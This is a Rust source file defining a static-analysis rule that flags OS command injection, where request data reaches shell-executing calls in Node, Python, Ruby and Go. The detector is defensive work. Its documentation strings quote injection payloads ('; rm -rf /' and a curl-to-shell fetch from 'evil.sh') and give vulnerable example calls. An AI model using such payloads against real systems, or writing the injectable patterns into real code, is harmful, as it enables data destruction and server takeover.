//! VG103 command-injection: request data in a command run by a shell.

use std::borrow::Cow;

use vibeguard_core::{
    ChecklistId, Confidence, EngineId, Finding, OwaspApi, RuleDocs, RuleMeta, Severity,
};

use super::{Applicability, CodeRule, Context};
use crate::flow::label::{Kinds, Label};
use crate::flow::{Call, FlowRule, Hit, SinkArg, kind};
use crate::ir::ExprKind;
use crate::language::Language;

/// The rule.
#[derive(Debug)]
pub struct CommandInjection;

static META: RuleMeta = RuleMeta {
    code: Cow::Borrowed("VG103"),
    name: Cow::Borrowed("command-injection"),
    engine: EngineId::Code,
    summary: Cow::Borrowed("OS command built from request data"),
    severity: Severity::Critical,
    confidence: Confidence::Firm,
    cwe: Cow::Borrowed(&[78]),
    owasp_api: Some(OwaspApi::Api8SecurityMisconfiguration),
    checklist: Cow::Borrowed(&[ChecklistId::Input01]),
    docs: RuleDocs {
        what: Cow::Borrowed(
            "Request data in a command that a shell interprets: Node's `child_process.exec`/\
             `execSync` (also through `util.promisify`), `spawn`/`execFile` with `shell: true`, \
             shelljs `exec`, Python's `os.system`, `os.popen`, `subprocess.*` with `shell=True`, \
             and `subprocess.getoutput`. Argument lists without a shell, and values passed \
             through `shlex.quote` or numeric conversion, are safe. \
             Go: `exec.Command(\"sh\", \"-c\", cmd)` with any shell, and a program chosen by the request.",
        ),
        why: Cow::Borrowed(
            "`; rm -rf /`, `$(curl evil.sh | sh)` and backticks run whatever the attacker writes \
             with the server's privileges: the machine is theirs.",
        ),
        example_bad: Cow::Borrowed(
            "exec(`convert ${req.body.file} out.png`);\nos.system('ping -c 1 ' + request.args['host'])",
        ),
        example_fixed: Cow::Borrowed(
            "execFile('convert', [req.body.file, 'out.png']);\nsubprocess.run(['ping', '-c', '1', host], check=True)",
        ),
        fix: Cow::Borrowed(
            "Run the program directly with an argument list (`execFile`, `spawn` without \
             `shell`, `subprocess.run([...])`), validate the input against an allowlist, and \
             never hand a string built from input to a shell.",
        ),
        references: Cow::Borrowed(&[
            Cow::Borrowed("https://cwe.mitre.org/data/definitions/78.html"),
            Cow::Borrowed(
                "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
            ),
        ]),
    },
};

fn shell_true(call: &Call<'_, '_>) -> bool {
    call.option("shell")
        .is_some_and(|v| !matches!(v.kind, ExprKind::Bool(false) | ExprKind::Null))
}

impl FlowRule for CommandInjection {
    fn kind(&self) -> Kinds {
        kind::COMMAND
    }

    fn sinks<'a>(&self, call: &Call<'a, '_>) -> Vec<SinkArg<'a>> {
        if super::in_ruby(call) {
            return ruby_sinks(call);
        }
        if super::in_go(call) {
            return go_sinks(call);
        }
        let qualified = call.qualified();
        let Some(name) = qualified.rsplit('.').next() else {
            return Vec::new();
        };
        if !matches!(
            name,
            "exec"
                | "execSync"
                | "spawn"
                | "spawnSync"
                | "execFile"
                | "execFileSync"
                | "system"
                | "popen"
                | "run"
                | "call"
                | "Popen"
                | "check_output"
                | "check_call"
                | "getoutput"
                | "getstatusoutput"
                | "execaCommand"
                | "execaCommandSync"
                | "execa"
                | "popen2"
                | "popen3"
                | "spawnShell"
        ) {
            return Vec::new();
        }
        let always_shell = call.is(&[
            "child_process.exec",
            "child_process.execSync",
            "shelljs.exec",
            "os.system",
            "os.popen",
            "subprocess.getoutput",
            "subprocess.getstatusoutput",
            "commands.getoutput",
            "execa.execaCommand",
            "execa.execaCommandSync",
        ]);
        let shell_option = call.is(&[
            "child_process.spawn",
            "child_process.spawnSync",
            "child_process.execFile",
            "child_process.execFileSync",
            "subprocess.run",
            "subprocess.call",
            "subprocess.Popen",
            "subprocess.check_output",
            "subprocess.check_call",
            "execa",
            "execa.execa",
        ]) && shell_true(call);
        if !(always_shell || shell_option) {
            return Vec::new();
        }
        let mut sinks = Vec::new();
        if let Some(command) = call.arg(0) {
            sinks.push(SinkArg {
                value: command,
                note: "shell command",
            });
        }
        if shell_option && let Some(arguments) = call.arg(1) {
            sinks.push(SinkArg {
                value: arguments,
                note: "shell command",
            });
        }
        sinks
    }

    fn accepts(&self, label: &Label, _note: &'static str) -> bool {
        label.request_part().is_some() && !label.is_cleansed(kind::COMMAND)
    }

    fn sanitizes(&self, call: &Call<'_, '_>) -> bool {
        call.name().is_some_and(|n| n == "shellescape")
            || call.is(&[
                "Shellwords.escape",
                "Shellwords.shellescape",
                "shlex.quote",
                "pipes.quote",
                "shell-quote.quote",
                "shell-escape",
                "shellescape",
            ])
    }
}

/// Go: `exec.Command("sh", "-c", cmd)` (any shell, `-c` or `/C`) runs its command text in a
/// shell; `exec.Command(name, args...)` runs the program the first argument names, so a
/// client-chosen program is an injection too (its arguments are not: no shell reads them).
fn go_sinks<'a>(call: &Call<'a, '_>) -> Vec<SinkArg<'a>> {
    let name = super::go_name(call);
    let mut args: Vec<&'a crate::ir::Expr> = call.args.iter().map(|a| &a.value).collect();
    match name.as_str() {
        "exec.Command" => {}
        "exec.CommandContext" if !args.is_empty() => {
            args.remove(0);
        }
        _ => return Vec::new(),
    }
    let Some(program) = args.first() else {
        return Vec::new();
    };
    let sink = |value| SinkArg {
        value,
        note: "shell command",
    };
    let shell = program.as_str().is_some_and(|p| {
        let base = p
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(p)
            .to_ascii_lowercase();
        matches!(
            base.as_str(),
            "sh" | "bash"
                | "zsh"
                | "dash"
                | "ash"
                | "ksh"
                | "cmd"
                | "cmd.exe"
                | "powershell"
                | "pwsh"
                | "powershell.exe"
        )
    });
    if shell {
        // The text after `-c`: what the shell runs.
        return args
            .iter()
            .position(|a| {
                a.as_str()
                    .is_some_and(|f| matches!(f, "-c" | "/c" | "/C" | "-Command"))
            })
            .and_then(|flag| args.get(flag + 1))
            .map(|value| vec![sink(value)])
            .unwrap_or_default();
    }
    vec![sink(program)]
}

/// Ruby: backticks and `%x()`, `system`/`exec`/`spawn` with one string (a shell runs it; an
/// argument list does not), `IO.popen`, `Open3.capture2`…, and `Kernel#open`, which runs a
/// command when its argument starts with `|`.
fn ruby_sinks<'a>(call: &Call<'a, '_>) -> Vec<SinkArg<'a>> {
    let Some(name) = call.name() else {
        return Vec::new();
    };
    let receiver = super::ruby_receiver(call);
    let one_string = super::positional_count(call) == 1;
    let shell = match name {
        "`" => true,
        "system" | "exec" | "spawn" => {
            one_string && matches!(receiver.as_str(), "" | "Kernel" | "Process")
        }
        "popen" | "popen2" | "popen2e" | "popen3" | "capture2" | "capture2e" | "capture3"
        | "pipeline" | "pipeline_r" | "pipeline_w" => {
            one_string && matches!(receiver.as_str(), "IO" | "Open3")
        }
        "open" => receiver.is_empty() || receiver == "Kernel",
        _ => false,
    };
    if !shell {
        return Vec::new();
    }
    call.args
        .iter()
        .find(|a| a.name.is_none())
        .map(|a| SinkArg {
            value: &a.value,
            note: "shell command",
        })
        .into_iter()
        .collect()
}

impl CodeRule for CommandInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn also_reads(&self) -> &'static [Language] {
        &[Language::Ruby, Language::Go]
    }

    fn flow(&self) -> Option<&dyn FlowRule> {
        Some(self)
    }

    fn check(&self, cx: &Context<'_>, hits: &[&Hit], out: &mut Vec<Finding>) -> Applicability {
        super::report_flows(cx, &META, hits, out, |_, source| {
            format!(
                "shell command built from {source}: run the program with an argument list instead"
            )
        });
        super::flow_applicability(cx, ChecklistId::Input01)
    }
}
